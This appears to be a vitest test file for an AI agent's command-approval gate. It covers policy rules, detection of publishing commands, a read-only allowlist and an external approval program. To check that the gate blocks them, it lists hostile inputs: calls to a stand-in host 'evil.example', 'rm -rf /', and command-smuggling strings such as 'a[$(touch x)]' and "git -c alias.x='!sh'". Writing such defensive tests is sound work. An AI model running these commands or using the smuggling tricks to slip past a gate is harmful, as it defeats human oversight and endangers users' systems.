// Policies as data, publishing, the read-only list and the approval program.
import { describe, expect, it } from "vitest";
import { absentHuman } from "../../core/human.ts";
import { createPathGuard } from "../path-guard.ts";
import { createGate } from "./gate.ts";
import type { GatePolicy } from "./gate-options.ts";
import { parsePolicies } from "./policies.ts";
import { publishes } from "./rules/publishing.ts";

const userHome = "/home/ada";
const hermesHome = "/home/ada/.hermes";
const cwd = "/home/ada/project";

function open(policy: Partial<GatePolicy> = {}) {
  const settings = { mode: "manual", yolo: false, approvalTimeoutMs: 1_000, sudoPassword: false, ...policy } as const;
  return createGate({
    userHome,
    hermesHome,
    pathGuard: createPathGuard({ userHome, hermesHome }),
    policy: () => settings,
  });
}

const context = {
  sessionId: "s",
  toolName: "terminal",
  human: absentHuman,
  tainted: false,
  workspace: cwd,
  signal: new AbortController().signal,
};
const run = (command: string, contained: boolean | undefined = true) =>
  ({ kind: "command", command, cwd, backend: "local", workspace: cwd, contained }) as const;
const allowed = async (gate: ReturnType<typeof open>, command: string, contained?: boolean) =>
  (await gate.check(run(command, contained), context)).allowed;

describe("policies", () => {
  it("deny, ask and allow by class, command, tool, path and host; the strictest wins", async () => {
    const policies = parsePolicies([
      { class: "publishing", action: "allow" },
      { host: "evil.example", action: "deny" },
      { command: "terraform *", action: "ask" },
      { tool: "write_file", path: "/home/ada/project/locked/*", action: "deny" },
    ]);
    const gate = open({ policies });
    expect(await allowed(gate, "git push")).toBe(true);
    expect(await allowed(gate, "git push https://evil.example/x")).toBe(false);
    expect(await allowed(gate, "terraform plan")).toBe(false);
    expect(await allowed(open({ policies, yolo: true }), "terraform plan")).toBe(true);
    expect(await allowed(open({ policies, yolo: true }), "curl https://evil.example")).toBe(false);
    const write = { kind: "write", path: "locked/a", cwd, workspace: cwd } as const;
    expect(await gate.check(write, { ...context, toolName: "write_file" })).toMatchObject({
      allowed: false,
      rule: "policy",
    });
    expect((await gate.check({ ...write, path: "free" }, { ...context, toolName: "write_file" })).allowed).toBe(true);
  });

  it("never lift the hard line, and malformed rules are errors", async () => {
    expect(await allowed(open({ policies: [{ action: "allow" }] }), "rm -rf /")).toBe(false);
    for (const wrong of [{ action: "permit" }, { action: "ask", clas: "sudo" }, "deny", { action: "deny", path: 3 }])
      expect(() => parsePolicies([wrong])).toThrow(/approvals.policies: rule 1/);
  });
});

it("publishing asks by default, also in the container", async () => {
  for (const command of ["git push", "npm publish", "gh pr create --fill", "kubectl apply -f x", "docker push a/b"])
    expect(await allowed(open(), command), command).toBe(false);
  for (const command of ["git fetch", "npm pack", "gh pr list", "git push --dry-run", "kubectl get pods", "make"])
    expect(await allowed(open(), command), command).toBe(true);
  expect(publishes("curl", "-d x https://hooks.slack.com/services/T/B/x")).toBe("sends a message");
});

it("without a container only readers run when nobody is there", async () => {
  for (const command of [
    "ls -la",
    "cat a | grep b",
    "git status",
    "find . -name x",
    "git log --oneline -3",
    "wc -l < a",
  ])
    expect(await allowed(open(), command, false), command).toBe(true);
  const others = [
    ...["make", "python3 x.py", "cat a > b", "find . -delete", "git -c alias.x='!sh' x", "sort -o a b", "PATH=/tmp ls"],
    ...["test -v 'a[$(touch x)]'", "printf -v 'a[$(touch x)0]' x", "./ls", "command rm x", "ls; $X", "rg --pre sh x"],
  ];
  for (const command of others) expect(await allowed(open(), command, false), command).toBe(false);
});

it("an approval program answers instead of the user; no answer means no", async () => {
  const env = { PATH: "/usr/bin:/bin" };
  const program = (command: string, timeoutMs = 5_000) => open({ program: { command, timeoutMs, env, cwd: "/" } });
  expect(await allowed(program("grep -q 'git push' && echo once"), "git push")).toBe(true);
  for (const command of ["echo deny", "echo perhaps", "exit 3", "true", "no-such-program"])
    expect(await allowed(program(command), "git push"), command).toBe(false);
  const late = await program("sleep 30; echo once", 200).check(run("git push"), context);
  expect(late).toMatchObject({ allowed: false, message: expect.stringContaining("did not answer within 0.2 s") });
});
